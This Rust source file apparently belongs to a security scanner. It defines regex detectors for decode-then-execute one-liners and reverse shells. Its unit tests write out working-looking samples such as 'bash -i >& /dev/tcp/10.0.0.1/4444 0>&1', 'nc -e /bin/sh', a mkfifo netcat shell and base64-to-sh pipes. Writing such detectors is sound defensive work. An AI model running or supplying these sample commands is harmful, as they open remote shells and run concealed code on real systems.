//! Programs hidden in encoded text and run after decoding, and shells that call home.

use std::sync::LazyLock;

use regex::Regex;

use crate::text::Span;

use super::surroundings as around;
use super::{Text, clipped, commands, pattern, trimmed};

/// Decoding and running in one line.
static DECODED_RUN: LazyLock<Regex> = LazyLock::new(|| {
    let decoder = r"(?:base64\s+(?:-d|--decode|--d\b)|xxd\s+-r|openssl\s+enc\s+-d|openssl\s+base64\s+-d)";
    let call = r"(?:b64decode|b32decode|b85decode|a85decode|unhexlify|bytes\.fromhex|zlib\.decompress|marshal\.loads|atob|fromCharCode|codecs\.decode)\s*\(";
    pattern(&format!(
        concat!(
            r"(?i)(?:",
            r"{decoder}[^;\n]*\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh(?:[\s;&)'`\x22]|$)",
            r"|{decoder}[^;\n]*\|\s*(?:sudo\s+)?(?:python[0-9.]*|perl|ruby|node|php)\s*(?:-\s*)?(?:[;&)'`\x22]|$)",
            r"|\b(?:eval|exec|source|(?:ba|z)?sh\s+-c|python[0-9.]*\s+-c|node\s+-e)\s+[\x22']?(?:\$\(|`)[^\n]*?{decoder}",
            r"|\b(?:ba|z)?sh\s+<\([^\n]*?{decoder}",
            r"|\b(?:exec|eval|os\.system|setTimeout|new\s+Function|Function)\s*\([^\n]*?{call}",
            r"|\b(?:eval|new\s+Function|Function|execSync|exec)\s*\(\s*Buffer\.from\([^\n]*?['\x22](?:base64|hex)['\x22]",
            r"|\b(?:iex|invoke-expression)\b[^\n]*?frombase64string",
            r"|frombase64string[^\n]*?\|\s*(?:iex|invoke-expression)\b",
            r"|\bpowershell(?:\.exe)?\b[^\n]*?\s-e(?:nc|ncodedcommand)?\s+[\x22']?[a-z0-9+/=]{{40,}}",
            r")",
        ),
        decoder = decoder,
        call = call
    ))
});

/// A name that takes what was decoded.
static DECODED_NAME: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?m)(?:^|[\s;])(?:const\s+|let\s+|var\s+)?(?P<name>[A-Za-z_][A-Za-z0-9_]*)\s*=\s*[^\n=]*?(?:b64decode|unhexlify|bytes\.fromhex|marshal\.loads|atob)\s*\(",
    )
});

/// The place around a lead to decoding where what is decoded is run.
pub fn decoded_run_at(text: &Text, at: usize) -> Option<Span> {
    let whole = text.text();
    let line = commands::reach(text, at);
    // What is decoded stands before `'base64'`, and may be long.
    let before = if whole[at..].starts_with(['\'', '"']) {
        4000
    } else {
        240
    };
    let reach = clipped(whole, line, at, before, 400);
    let words = around::of(whole, reach);
    let inside = at.checked_sub(reach.start)?;
    if let Some(found) = DECODED_RUN
        .find_iter(words)
        .find(|found| found.start() <= inside + 2 && inside < found.end())
    {
        return Some(trimmed(
            whole,
            Span::new(reach.start + found.start(), reach.start + found.end()),
        ));
    }
    run_by_name(whole, line, clipped(whole, line, at, 120, 40))
}

/// `code = b64decode(…)` and, further down, `exec(code`.
fn run_by_name(text: &str, line: Span, near: Span) -> Option<Span> {
    let found = DECODED_NAME.captures(around::of(text, near))?;
    let name = found.name("name")?.as_str();
    let rest = text.get(line.end..)?;
    let rest = &rest[..rest.floor_char_boundary(4000)];
    ["exec(", "eval(", "os.system(", "Function("]
        .iter()
        .find_map(|call| {
            rest.match_indices(call).find_map(|(at, _)| {
                let argument = rest[at + call.len()..].trim_start();
                let after = argument.strip_prefix(name)?;
                let is_call = !rest[..at]
                    .ends_with(|before: char| before.is_alphanumeric() || matches!(before, '_' | '.'));
                let is_whole = !after.starts_with(|next: char| next.is_alphanumeric() || next == '_');
                (is_call && is_whole)
                    .then(|| Span::new(line.end + at, line.end + at + call.len() + name.len()))
            })
        })
}

/// A shell whose input and output are a connection to somewhere else.
static REVERSE_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    pattern(concat!(
        r"(?i)(?:",
        r"\b(?:ba|z|k|da)?sh\s+-i\s*(?:[0-9]?>&|&>|>|<)[^\n]*?/dev/(?:tcp|udp)/",
        r"|\bexec\s+[0-9]+<>\s*/dev/(?:tcp|udp)/[^\n]*?\b(?:ba|z)?sh\b",
        r"|/dev/(?:tcp|udp)/[^\n]*?0?[<>]&[01][^\n]*?\b(?:ba|z)?sh\b",
        r"|\b(?:nc|ncat|netcat)\s+(?:[^\n|;]*\s)?(?:-e|-c|--exec|--sh-exec)\s+[\x22']?(?:/bin/|/usr/bin/)?(?:(?:ba|z|da)?sh\b|cmd(?:\.exe)?\b|powershell)",
        r"|\bmkfifo\s+\S+[^\n]*?\|\s*(?:/bin/)?(?:ba|z)?sh\b[^\n]*?\|\s*(?:nc|ncat|netcat|openssl)\b",
        r"|\bsocat\b[^\n]*?exec:[\x22']?(?:/bin/)?(?:ba|z|da)?sh\b",
        r"|\bdup2\s*\(\s*\w+\.fileno\(\)\s*,\s*[012]\s*\)",
        r")",
    ))
});

/// The shell that calls home around a lead to one.
pub fn reverse_shell_at(text: &Text, at: usize) -> Option<Span> {
    let whole = text.text();
    let reach = clipped(whole, commands::reach(text, at), at, 240, 240);
    let words = around::of(whole, reach);
    let inside = at.checked_sub(reach.start)?;
    let found = REVERSE_SHELL
        .find_iter(words)
        .find(|found| found.start() <= inside && inside < found.end())?;
    Some(trimmed(
        whole,
        Span::new(reach.start + found.start(), reach.start + found.end()),
    ))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::{Lead, text_of};

    #[test]
    fn decoded_programs_that_run_are_seen() {
        for words in [
            "echo aGk= | base64 -d | sh",
            "echo aGk= | base64 --decode | gunzip | sudo bash",
            "bash -c \"$(echo aGk= | base64 -d)\"",
            "eval $(echo aGk= | base64 -d)",
            "bash <(echo aGk= | base64 -d)",
            "echo aGk= | base64 -d | python3",
            "exec(base64.b64decode('aGk='))",
            "exec(zlib.decompress(base64.b64decode(blob)))",
            "exec(__import__('base64').b64decode(x))",
            "eval(atob('aGk='))",
            "eval(Buffer.from('aGk=', 'base64').toString())",
            "new Function(atob(code))()",
            "code = base64.b64decode(BLOB)\nx = 1\nexec(code)",
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($x)))",
            &format!("powershell -nop -enc {}", "SQBFAFgA".repeat(8)),
        ] {
            let text = text_of("run.txt", words).unwrap();
            assert!(
                text.leads(Lead::Decode)
                    .any(|at| decoded_run_at(&text, at).is_some()),
                "{words}"
            );
        }
    }

    #[test]
    fn decoding_alone_is_let_be() {
        for words in [
            "kubectl get secret x -o jsonpath='{.data.p}' | base64 -d",
            "base64 -d file.b64 > file.bin; sh build.sh",
            "base64 -d | python3 -m json.tool",
            "base64 -d | openssl x509 -text",
            "const raw = atob(data); render(raw)",
            "data = base64.b64decode(body)\nmodel.eval()",
            "raw = base64.b64decode(encoded)\nre.exec(raw)",
            "String.fromCharCode(97 + i)",
            "payload = base64.b64decode(token)\nprint(exec_time)",
        ] {
            if let Some(text) = text_of("run.txt", words) {
                assert!(
                    text.leads(Lead::Decode)
                        .all(|at| decoded_run_at(&text, at).is_none()),
                    "{words}"
                );
            }
        }
    }

    #[test]
    fn shells_that_call_home_are_seen() {
        for words in [
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "nc -e /bin/sh 10.0.0.1 4444",
            "rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f",
            "s.connect((h, p)); os.dup2(s.fileno(), 0)",
        ] {
            let text = text_of("run.txt", words).unwrap();
            assert!(
                text.leads(Lead::ReverseShell)
                    .any(|at| reverse_shell_at(&text, at).is_some()),
                "{words}"
            );
        }
        for words in [
            "(echo > /dev/tcp/localhost/5432) 2>/dev/null && echo up",
            "timeout 1 bash -c '</dev/tcp/db/5432'",
            "nc -vz host 80",
        ] {
            if let Some(text) = text_of("run.txt", words) {
                assert!(
                    text.leads(Lead::ReverseShell)
                        .all(|at| reverse_shell_at(&text, at).is_none()),
                    "{words}"
                );
            }
        }
    }
}
